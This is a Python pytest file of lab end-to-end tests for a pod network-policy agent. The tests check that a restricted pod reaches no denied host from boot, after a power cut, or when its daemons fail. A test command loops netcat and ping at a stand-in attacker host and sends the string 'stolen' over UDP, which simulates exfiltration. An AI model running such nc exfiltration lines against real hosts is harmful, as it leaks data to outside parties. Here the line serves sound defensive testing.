"""Fail closed around a boot: what a pod must not reach it never reaches, from its first packet on."""

from __future__ import annotations

import pytest

from e2e.demo import DAEMONS, LISTED, Home, wait_ready
from lab.cni import CniError
from lab.router import ATTACKER
from lab.shell import wait_until

pytestmark = [pytest.mark.root, pytest.mark.lab]

# Knocks at the attacker from its first instruction on, by TCP, UDP and ping.
KNOCKING = [
    "sh",
    "-c",
    "while :; do "
    f"nc -z -w 1 {ATTACKER} 443 & echo stolen | nc -u -w 1 {ATTACKER} 9000 & ping -c 1 -W 1 {ATTACKER} & sleep 0.05; "
    "done",
]


def test_a_pod_reaches_nothing_denied_from_its_first_packet_on(home: Home) -> None:
    lab = home.lab
    with lab.capture("n3", f"host {ATTACKER}") as wire:
        thief = lab.pod("n3", "openclaw", "thief", {"app": "openclaw"}, KNOCKING)
        allowed = thief.get(LISTED)
        thief.delete()
    assert allowed.status == 200, allowed
    assert wire.frames() == []


def test_without_the_agent_no_pod_starts_and_nothing_is_left(home: Home) -> None:
    node = home.lab.node("n3")
    node.run("systemctl stop netstack-agent")
    links = node.run("ip -br link").stdout
    late = home.lab.pod("n3", "openclaw", "late", {"app": "openclaw"}, start=False)
    with pytest.raises(CniError) as refused:
        late.start()
    assert "netstack-agent" in str(refused.value)
    assert node.run("ip -br link").stdout == links
    node.run("systemctl start netstack-agent")
    late.start()
    late.delete()


def test_after_a_power_cut_a_restricted_pod_comes_back_restricted(home: Home) -> None:
    lab = home.lab
    thief = lab.pod("n3", "openclaw", "thief", {"app": "openclaw"}, KNOCKING)
    lab.powercut("n3")
    lab.boot("n3")
    wait_ready(lab.node("n3"))
    with lab.capture("n3", f"host {ATTACKER}") as wire:
        thief.start()
        allowed = thief.get(LISTED)
        thief.delete()
    assert allowed.status == 200, allowed
    assert wire.frames() == []


@pytest.mark.parametrize(
    "failing",
    [["agent", "dns", "observer", "announcer", "ingress-endpoint", "ingress", "haproxy"], ["loader"]],
    ids=["every daemon", "the loader"],
)
def test_a_boot_on_which_units_fail_starts_no_pod_and_opens_nothing(home: Home, failing: list[str]) -> None:
    """Nor does their coming back: the pod that was refused starts then, and reaches what it may."""
    lab, node = home.lab, home.lab.node("n3")
    thief = lab.pod("n3", "openclaw", "thief", {"app": "openclaw"}, KNOCKING, start=False)
    fail = "[Service]\nExecStartPre=\nExecStart=\nExecStart=/bin/false\n"
    folders = " ".join(f"/etc/systemd/system/netstack-{unit}.service.d" for unit in failing)
    node.run(f"for f in {folders}; do mkdir $f && printf '{fail}' > $f/fail.conf; done && sync")
    lab.powercut("n3")
    lab.boot("n3", wait=False)  # it never gets to its last target
    try:
        wait_until(lambda: node.boot_state() is not None, "n3 to boot")
        tried = f"systemctl show -P NRestarts netstack-{failing[0]}"
        wait_until(lambda: node.run(tried, check=False).stdout.strip() not in ("", "0"), f"{failing[0]} to fail", 60)
        with lab.capture("n3", f"host {ATTACKER}") as wire:
            links = node.run("ip -br link").stdout
            for _ in range(3):
                with pytest.raises(CniError, match="netstack-agent"):
                    thief.start()
            assert node.run("ip -br link").stdout == links
            assert ("loader" in failing) == (not node.run("ls /sys/fs/bpf/netstack/progs", check=False).stdout)
            node.run(f"rm -r {folders} && systemctl daemon-reload && systemctl restart netstack-loader {DAEMONS}")
            node.wait_booted()
            wait_ready(node)
            thief.start()
            allowed = thief.get(LISTED)
            thief.delete()
    finally:
        node.run(f"rm -rf {folders} && systemctl daemon-reload && systemctl start netstack-loader {DAEMONS}")
    assert allowed.status == 200, allowed
    assert wire.frames() == []
